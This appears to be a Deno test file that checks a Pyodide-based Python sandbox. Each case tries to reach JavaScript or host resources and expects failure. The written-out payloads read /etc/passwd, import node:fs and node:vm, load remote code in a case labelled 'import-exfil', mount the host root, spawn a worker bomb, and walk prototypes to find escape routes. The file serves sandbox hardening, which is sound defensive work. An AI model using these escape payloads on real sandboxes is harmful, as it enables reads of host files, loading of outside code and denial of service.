/** Attacks that reach for JavaScript (R01–R04, R07–R13, R18, C136, C137). */
import { assertEquals } from "@std/assert";
import { attack, ends, gives, pair, prints, raises, withstand } from "./fixtures/attacks.ts";

/** Names of globals with which JavaScript reaches out of its realm. */
const OUTWARD = "Deno process require fetch WebSocket Worker XMLHttpRequest localStorage caches " +
  "navigator eval Function globalThis self close postMessage importScripts BroadcastChannel " +
  "SharedArrayBuffer indexedDB EventSource MessageChannel console WebAssembly setTimeout";

/** Walks over 4,000 objects and shows whether it met so many, and which names it met that lead outward: the bridge's own. */
const WALK = `import pyodide_js as p, js, asyncio
from pyodide.ffi import JsException, JsProxy, create_proxy, to_js
Object = to_js({}).constructor
seen, found, queue = set(), set(), [p, p._api, p._module, p.FS, js.rlm, Object, to_js([1])]
p._api.scheduleCallback(create_proxy(lambda this, *rest: queue.append(this), capture_this=True), 1)
await asyncio.sleep(0.05)
outward = set("runInThisContext runInContext createCachedData getBuiltinModule readFileSync ${OUTWARD}".split()) - {"Function", "close", "indexedDB"}
for start in queue:
  if len(seen) > 4_000: break
  if not isinstance(start, JsProxy) or start.js_id in seen or hasattr(start, "byteLength"): continue
  seen.add(start.js_id)
  try:
    names = [str(name) for name in Object.getOwnPropertyNames(start)]
    found |= outward & set(names)
    queue.append(Object.getPrototypeOf(start))
  except JsException: continue
  for name in names:
    try: described = Object.getOwnPropertyDescriptor(start, name)
    except JsException: continue
    queue += [value for part in ("value", "get", "set") if isinstance(value := getattr(described, part, None), JsProxy)]
len(seen) > 4_000, found`;

const walk = (start: string) => `${start}.constructor.constructor.new("return globalThis")()`;

Deno.test("Python gets no JavaScript but its bridge (R01–R04, R07–R13, R18, C136, C137)", async (t) => {
  await withstand(t, [
    attack(
      "R01 js-deno",
      'import js; js.Deno.readTextFileSync("/etc/passwd")',
      raises(/^AttributeError: Deno/),
    ),
    attack("R02 run-js", 'from pyodide.code import run_js; run_js("1+1")', raises(/^ImportError/)),
    attack("R03 js-eval", 'import js; js.eval("globalThis")', raises(/^AttributeError: eval/)),
    attack(
      "R04 constructor of the configuration",
      `import pyodide_js as p; ${walk("p._api.config")}`,
      raises(/EvalError/),
    ),
    attack(
      "R04 constructor of a converted value",
      `from pyodide.ffi import to_js; ${walk("to_js([1])")}`,
      raises(/EvalError/),
    ),
    attack(
      "R04 constructors of an asynchronous function, a generator and a promise",
      `import pyodide_js as p, js
from pyodide.ffi import JsException
for start in (p.loadPackage, p._api.loadBinaryFile, p.FS.mkdir):
  try: start.constructor.new("return globalThis")
  except JsException as error: print(error.name)`,
      prints("EvalError\nEvalError\nEvalError\n"),
    ),
    attack(
      "R07 node-builtin",
      `import js; await js.eval("import('node:fs')")`,
      raises(/^AttributeError: eval/),
    ),
    attack(
      "R08 getBuiltinModule",
      'import js; js.process.getBuiltinModule("node:vm").runInThisContext("typeof Deno")',
      raises(/^AttributeError: process/),
    ),
    attack(
      "R09 import-exfil",
      `import js; await js.eval("import('https://raw.githubusercontent.com/o/r/x.js?d=1')")`,
      raises(/^AttributeError: eval/),
    ),
    ...["npm:left-pad", "jsr:@std/path"].map((name) =>
      attack(`R10 ${name}`, `import js; await js.eval("import('${name}')")`, raises(/eval/))
    ),
    attack(
      "R11 nodefs-root",
      `import pyodide_js as p; from pyodide.ffi import to_js
p.FS.mkdir("/m"); p.FS.mount(p.FS.filesystems.NODEFS, to_js({"root": "/"}), "/m")
import os; print(os.listdir("/m"))`,
      raises(/JsException/),
    ),
    attack(
      "R12 mountNodeFS",
      'import pyodide_js as p; p.mountNodeFS("/x", "/etc")',
      raises(/only works in Node/),
    ),
    attack(
      "R13 loadBinaryFile",
      'import pyodide_js as p; await p._api.loadBinaryFile("/etc/passwd")',
      raises(/JsException/),
    ),
    attack(
      "R18 worker-bomb",
      "import js; [js.eval(\"new Worker('data:text/javascript,for(;;);',{type:'module'})\") for _ in range(200)]",
      raises(/^AttributeError: eval/),
    ),
    attack("C136 exit", "import js; js.Deno.exit(3)", raises(/^AttributeError: Deno/)),
    attack("C136 close", "import js; js.self.close()", raises(/^AttributeError: self/)),
    attack(
      "C137 every name that leads outward",
      `import js\nprint([name for name in "${OUTWARD}".split() if hasattr(js, name)])`,
      prints("[]\n"),
    ),
    ...pair(
      "E01 names of JavaScript by import",
      ["from js import fetch", raises(/^ImportError/)],
      ["import js; js.rlm is not None", gives("True")],
    ),
    ...pair(
      "E02 the realm's global by a callback's this",
      [
        `import pyodide_js as p, asyncio
from pyodide.ffi import create_proxy, to_js
seen = []
look = create_proxy(lambda this, *rest: seen.append(this), capture_this=True)
to_js([1]).forEach(look)
p._api.scheduleCallback(look, 1)
await asyncio.sleep(0.2)
print(len(seen), [hasattr(this, "WebAssembly") or hasattr(this, "globalThis") for this in seen])`,
        prints("2 [False, False]\n"),
      ],
      [
        `import asyncio
seen = []
asyncio.get_event_loop().call_later(0.01, seen.append, "called")
await asyncio.sleep(0.1)
print(seen)`,
        prints("['called']\n"),
      ],
    ),
    ...pair(
      "E03 frames of errors",
      [
        `from pyodide.ffi import create_proxy, to_js, JsException
try: to_js([1]).constructor.constructor.new("x")
except JsException as caught: error = caught
base = to_js({}).constructor.getPrototypeOf(error.constructor)
base.prepareStackTrace = create_proxy(lambda error, frames: [f.getThis() for f in frames])`,
        raises(/read only|not extensible|JsException/),
      ],
      [
        `import traceback
try: 1 / 0
except ZeroDivisionError: print(traceback.format_exc().splitlines()[-1])`,
        prints("ZeroDivisionError: division by zero\n"),
      ],
    ),
    ...pair(
      "E04 prototypes of built-in objects",
      [
        `from pyodide.ffi import create_proxy, to_js
from pyodide.ffi import JsException
for target, name in ((to_js([1]).constructor.prototype, "push"), (to_js({}).constructor.prototype, "toJSON"),
                     (to_js({}).constructor, "keys"), (to_js(b"x").constructor.prototype, "set")):
  try: setattr(target, name, create_proxy(lambda *a: 1)); print("set", name)
  except JsException as error: print(error.name)`,
        prints("TypeError\nTypeError\nTypeError\nTypeError\n"),
      ],
      [
        `from pyodide.ffi import to_js
to_js([3, 1, 2]).to_py(), to_js({"a": [1]}).to_py() if hasattr(to_js({"a": [1]}), "to_py") else None`,
        ends("ok"),
      ],
    ),
    attack(
      "C44 chatter of a package that is loaded",
      `import pyodide_js as p
try: await p.loadPackage(["numpy", "micropip"])
except Exception: pass
await p.loadPackagesFromImports("import numpy")`,
      (cell) => assertEquals([cell.stdout, cell.stderr], ["", ""]),
    ),
    ...pair(
      "E05 loading a package",
      [
        'import pyodide_js as p; await p.loadPackage("numpy")',
        raises(/No known package/),
      ],
      ["import json, re, math, statistics; statistics.mean([1, 2, 3])", gives("2")],
    ),
    ...pair(
      "E06 other file systems of the loader",
      [
        `import pyodide_js as p; p.FS.mkdir("/w"); p.FS.mount(p.FS.filesystems.WORKERFS, {}, "/w")`,
        raises(/ReferenceError/),
      ],
      ['open("/tmp/a", "w").write("kept"); open("/tmp/a").read()', gives("'kept'")],
    ),
    ...pair(
      "E08 the bridge itself",
      [
        `import js
from pyodide.ffi import JsException
for name in ("call", "output", "send_blob", "cancel", "fetch"):
  try: setattr(js.rlm, name, print)
  except JsException as error: print(error.name, getattr(js.rlm, "constructor", None), getattr(js.rlm.call, "constructor", None))`,
        prints("TypeError None None\n".repeat(5)),
      ],
      ["echo('through')", gives("'through'")],
    ),
    attack(
      "E27 a walk over everything that properties and prototypes lead to",
      WALK,
      (cell) => {
        assertEquals(cell.status, "ok");
        assertEquals(cell.value, "(True, {'fetch'})");
      },
      { options: { timeoutMs: 60_000 } },
    ),
    ...pair(
      "E07 a js module of one's own",
      [
        `import pyodide_js as p, sys
p.registerJsModule("js", p); sys.modules.pop("js")
import js
print(hasattr(js, "Deno"))`,
        prints("False\n"),
      ],
      ["echo([1, 'a', None])", gives("[1, 'a', None]")],
    ),
  ]);
});
